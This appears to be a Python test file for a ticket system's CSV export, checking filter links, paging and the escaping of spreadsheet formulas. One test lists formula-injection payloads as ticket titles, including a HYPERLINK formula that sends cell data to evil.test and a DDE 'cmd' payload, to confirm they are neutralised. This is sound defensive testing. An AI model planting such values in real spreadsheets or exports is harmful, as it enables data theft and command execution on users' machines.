"""The export of a list: all that its filters let through, and nothing that a spreadsheet carries out."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from tests.desk.making import make_ticket
from tests.support.pages import PageClient
from webapp.desk.record_templates.queries import get_template
from webapp.desk.records import exports, services
from webapp.desk.records.wanted import Wanted
from webapp.languages.values import Reader
from webapp.people.accounts.models import Account

SignIn = Callable[[Account], PageClient]


def test_export_and_reset_follow_the_filters_that_htmx_set(
    alice: Account, bob: Account, sign_in: SignIn
) -> None:
    make_ticket(alice)
    browser = sign_in(bob)
    whole = browser.get("/records/ticket")
    assert whole.select_one("#export-link")["href"] == "/records/ticket/export.csv?"
    assert not whole.select("#reset-link a, [hx-swap-oob]")
    part = browser.get("/records/ticket?priority=1", headers={"HX-Request": "true"})
    assert part.select_one("#export-link[hx-swap-oob]")["href"] == "/records/ticket/export.csv?priority=1"
    assert part.select_one("#reset-link[hx-swap-oob] a")["href"] == "/records/ticket"


def test_the_export_has_what_the_list_has_and_runs_no_formulas(
    alice: Account, bob: Account, sign_in: SignIn
) -> None:
    dangerous = [
        '=HYPERLINK("http://evil.test/"&A1,"x")',
        "+1+cmd|'/C calc'!A0",
        "-2+3",
        "@SUM(1)",
        'Tab, "quoted"',
    ]
    for title in dangerous:
        make_ticket(alice, title, priority="2")
    make_ticket(alice, "other", priority="1")
    browser = sign_in(bob)
    browser.get("/records/ticket/export.csv?priority=2&sort=number")
    assert "attachment" in browser.response.headers["Content-Disposition"]
    text = browser.response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row[2] for row in rows[1:]] == [f"'{title}" for title in dangerous[:4]] + dangerous[4:]
    assert rows[0][:3] == ["Number", "Status", "Subject"]
    assert {len(row) for row in rows} == {11}


def test_the_export_goes_on_after_the_first_page(
    alice: Account, bob: Account, sign_in: SignIn, monkeypatch
) -> None:
    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 2)
    for number in range(5):
        make_ticket(alice, f"Ticket {number}")
    browser = sign_in(bob)
    browser.get("/records/ticket/export.csv?sort=number")
    rows = list(csv.reader(io.StringIO(browser.response.get_data(as_text=True))))
    assert [row[2] for row in rows[1:]] == [f"Ticket {number}" for number in range(5)]


def test_the_export_ends_when_the_rest_goes_away_meanwhile(alice: Account, bob: Account, monkeypatch) -> None:
    monkeypatch.setattr(exports, "ROWS_AT_ONCE", 2)
    tickets = [make_ticket(alice, f"Ticket {number}") for number in range(3)]
    template = get_template("ticket")
    assert template
    heads = ("Number", "Status", "Created", "Changed")
    rows = exports.rows_of(template, bob, Wanted(sort="number"), Reader(), heads)
    found = [next(rows) for _row in range(3)]
    services.change_status(tickets[-1], "cancelled", actor=bob)
    found += rows
    assert len(found) == 3
